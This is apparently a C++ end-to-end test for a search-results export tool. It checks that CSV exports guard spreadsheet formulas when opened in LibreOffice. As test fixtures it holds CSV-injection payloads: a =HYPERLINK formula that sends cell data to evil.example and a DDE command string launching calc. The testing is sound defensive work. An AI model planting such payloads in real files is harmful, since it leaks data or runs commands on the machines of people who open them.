// Spreadsheet-safe CSV (docs/exports.md "Formulas"), end to end: the emulator answers with texts
// that spreadsheets evaluate (`--hostile formulas`: a question =HYPERLINK(...), an answer
// +cmd|' /C calc'!A0, a title -2+3, related searches =1+1 and @SUM(A1:A2)) for seeds that are
// formulas too; every CSV export and the diff's CSV are opened by LibreOffice (converted to a
// workbook, read back by openpyxl): not one cell is a formula, the texts are there with their
// guard, and a plain -3 is still a number. `--raw` gives every text back byte for byte (checked
// against the jsonl export), and a guarded export read back as a query list asks for nothing new.
#include "harness.hpp"

#include <gtest/gtest.h>

#include <fstream>
#include <set>

namespace paa::e2e {
namespace {

namespace json = boost::json;

const std::string kHyperlink = R"(=HYPERLINK("http://evil.example/?x="&A1,"click"))";
const std::string kCmd = "+cmd|' /C calc'!A0";
const std::vector<std::string> kSeeds{"espresso", "=SUM(1,2)", "-2+3 coffee", "@home brewing"};

// openpyxl (Debian's python3-openpyxl, for /usr/bin/python3) reads each workbook LibreOffice
// wrote and prints, per file, its formula cells, its strings and its numbers.
constexpr const char* kReadBack = R"py(import json, sys
import openpyxl
out = {}
for path in sys.argv[1:]:
    book = openpyxl.load_workbook(path)
    formulas, strings, numbers = [], [], []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                if cell.data_type == "f":
                    formulas.append(str(cell.value))
                elif isinstance(cell.value, str):
                    strings.append(cell.value)
                elif isinstance(cell.value, (int, float)):
                    numbers.append(cell.value)
    out[path.rsplit("/", 1)[-1]] = {"formulas": formulas, "strings": strings, "numbers": numbers}
print(json.dumps(out))
)py";

bool has(const json::array& values, const json::value& v) {
  return std::find(values.begin(), values.end(), v) != values.end();
}

class FormulasE2E : public ::testing::Test {
 protected:
  void SetUp() override {
    std::ofstream list(dir / "seeds.txt");
    for (const auto& s : kSeeds) list << s << "\n";
    list.close();
    job = dir / "sheet.toml";
    std::ofstream(job) << "query_files = [\"seeds.txt\"]\nlocales = [ { hl = \"en\", gl = \"us\" } ]\n"
                          "[limits]\nrate = 0\nconcurrency = 2\n";
  }
  ProcessResult paa(const std::vector<std::string>& args) { return run_paa(args, dir.path()); }

  TempDir dir;
  fs::path job;
};

TEST_F(FormulasE2E, GuardedCsvOpensInLibreOfficeAsTextAndRawGivesTheBytesBack) {
  Emulator emu(dir.path(), {"--seed", "3", "--hostile", "formulas", "--hostile-rate", "1"});
  auto run = paa(run_args(job, emu));
  ASSERT_EQ(run.exit_code, 0) << run.err;

  // Every CSV for people, guarded by default.
  const std::vector<std::pair<std::string, std::vector<std::string>>> exports{
      {"csv.csv", {"--format", "csv"}},
      {"excel.csv", {"--format", "csv", "--excel"}},
      {"questions.csv", {"--format", "questions"}},
      {"related.csv", {"--format", "related"}},
      {"topics.csv", {"--format", "topics"}},
      {"stability.csv", {"--format", "stability"}},
      {"domains.csv", {"--format", "domains"}},
  };
  std::vector<std::string> files;
  for (const auto& [file, flags] : exports) {
    std::vector<std::string> args{"export", job.string()};
    args.insert(args.end(), flags.begin(), flags.end());
    args.insert(args.end(), {"-o", file});
    auto r = paa(args);
    ASSERT_EQ(r.exit_code, 0) << file << ": " << r.err;
    files.push_back((dir / file).string());
  }
  auto diff = paa({"diff", job.string(), "--from", "2020-01-01", "--format", "csv", "-o", "diff.csv"});
  ASSERT_EQ(diff.exit_code, 0) << diff.err;
  files.push_back((dir / "diff.csv").string());
  // The bytes: the guard is there, the plain negative number is not guarded.
  const std::string csv = read_file(dir / "csv.csv");
  EXPECT_NE(csv.find("\"'" + std::string(R"(=HYPERLINK(""http://evil.example/?x=""&A1,""click""))") + "\""),
            std::string::npos) << csv;
  EXPECT_NE(csv.find(",-3,"), std::string::npos) << "a plain number stays a number";

  // LibreOffice opens each (as a spreadsheet program would), writes it as a workbook.
  const fs::path profile = dir / "lo-profile";
  std::vector<std::string> soffice{"/usr/bin/soffice", "-env:UserInstallation=file://" + profile.string(), "--headless",
                                   "--convert-to", "xlsx", "--outdir", (dir / "lo").string()};
  soffice.insert(soffice.end(), files.begin(), files.end());
  auto converted = Process(soffice, {}, dir.path()).wait();
  ASSERT_EQ(converted.exit_code, 0) << converted.err;
  std::ofstream(dir / "read_back.py") << kReadBack;
  std::vector<std::string> python{"/usr/bin/python3", (dir / "read_back.py").string()};
  for (const auto& f : files) python.push_back((dir / "lo" / fs::path(f).filename().replace_extension(".xlsx")).string());
  auto read = Process(python, {}, dir.path()).wait();
  ASSERT_EQ(read.exit_code, 0) << read.err;
  const json::object books = json::parse(read.out).as_object();
  ASSERT_EQ(books.size(), files.size()) << read.out;
  for (const auto& [name, book] : books) {
    SCOPED_TRACE(std::string(name));
    EXPECT_TRUE(book.at("formulas").as_array().empty()) << "LibreOffice evaluated: " << json::serialize(book.at("formulas"));
  }
  // The texts, shown with their guard: in the trees, and the seeds in every key column.
  for (const char* name : {"csv.xlsx", "excel.xlsx"}) {
    const auto& strings = books.at(name).at("strings").as_array();
    for (const std::string& text : {kHyperlink, kCmd, std::string("-2+3"), std::string("\tTabbed question?"),
                                   std::string("=2*3"), std::string("@title"), std::string("=SUM(1,2)")}) {
      EXPECT_TRUE(has(strings, json::value("'" + text))) << name << ": " << text;
    }
    EXPECT_TRUE(has(books.at(name).at("numbers").as_array(), json::value(-3))) << name << ": -3 is a number";
  }
  const auto& related = books.at("related.xlsx").at("strings").as_array();
  EXPECT_TRUE(has(related, json::value("'=1+1")));
  EXPECT_TRUE(has(related, json::value("'@SUM(A1:A2)")));
  EXPECT_TRUE(has(books.at("questions.xlsx").at("strings").as_array(), json::value("'" + kHyperlink)));
  EXPECT_TRUE(has(books.at("diff.xlsx").at("strings").as_array(), json::value("'@home brewing")));

  // --raw: the bytes of every text as the service sent them, field for field the jsonl's.
  ASSERT_EQ(paa({"export", job.string(), "--format", "csv", "--raw", "-o", "raw.csv"}).exit_code, 0);
  ASSERT_EQ(paa({"export", job.string(), "--format", "jsonl", "-o", "trees.jsonl"}).exit_code, 0);
  const auto rows = parse_csv(read_file(dir / "raw.csv"));
  ASSERT_GT(rows.size(), 1u);
  std::multiset<std::vector<std::string>> from_csv, from_json;
  for (std::size_t i = 1; i < rows.size(); ++i) {
    from_csv.insert({rows[i][0], rows[i][7], rows[i][8], rows[i][9], rows[i][10]});  // q, question, answer, url, title
  }
  for (const auto& tree : parse_jsonl(read_file(dir / "trees.jsonl"))) {
    const std::string q(tree.at("q").as_string());
    std::function<void(const json::array&)> walk = [&](const json::array& children) {
      for (const auto& c : children) {
        const auto& node = c.as_object();
        auto text = [&](const char* f) { return node.contains(f) ? std::string(node.at(f).as_string()) : std::string(); };
        from_json.insert({q, text("question"), text("answer"), text("url"), text("title")});
        if (node.contains("children")) walk(node.at("children").as_array());
      }
    };
    walk(tree.at("result").at("children").as_array());
  }
  EXPECT_EQ(from_csv, from_json);
  EXPECT_NE(read_file(dir / "raw.csv").find("\"" + std::string(R"(=HYPERLINK(""http://evil.example/?x=""&A1,""click""))") + "\""),
            std::string::npos);

  // A guarded export read back as a query list: its q column is the seeds as they are, all
  // stored already; nothing new is asked.
  const auto before = emu.requests();
  std::ofstream(dir / "again.toml") << "query_files = [\"csv.csv\"]\nstore = \"sheet.db\"\n"
                                       "locales = [ { hl = \"en\", gl = \"us\" } ]\n[limits]\nrate = 0\n";
  auto check = paa({"check", (dir / "again.toml").string()});
  ASSERT_EQ(check.exit_code, 0) << check.err;
  auto again = paa(run_args(dir / "again.toml", emu));
  ASSERT_EQ(again.exit_code, 0) << again.err;
  EXPECT_EQ(emu.requests(), before) << "no new key: " << again.err;
  EXPECT_NE(again.err.find("already stored  " + std::to_string(kSeeds.size())), std::string::npos) << again.err;
}

TEST_F(FormulasE2E, RawIsForTheCsvFormatsOnlyAndThePartitionedDatasetIsNeverGuarded) {
  Emulator emu(dir.path(), {"--seed", "3", "--hostile", "formulas", "--hostile-rate", "1"});
  ASSERT_EQ(paa(run_args(job, emu)).exit_code, 0);
  auto jsonl = paa({"export", job.string(), "--format", "jsonl", "--raw"});
  EXPECT_EQ(jsonl.exit_code, 2);
  EXPECT_NE(jsonl.err.find("--raw applies to the CSV formats"), std::string::npos) << jsonl.err;
  ASSERT_EQ(paa({"export", job.string(), "--format", "csv", "--partition-by", "hl", "-o", "parts"}).exit_code, 0);
  std::string all;
  for (const auto& e : fs::recursive_directory_iterator(dir / "parts")) {
    if (e.path().extension() == ".csv") all += read_file(e.path());
  }
  EXPECT_NE(all.find("\n\"=SUM(1,2)\","), std::string::npos) << "the dataset keeps the text as it is";
  EXPECT_EQ(all.find("'="), std::string::npos);
}

}  // namespace
}  // namespace paa::e2e
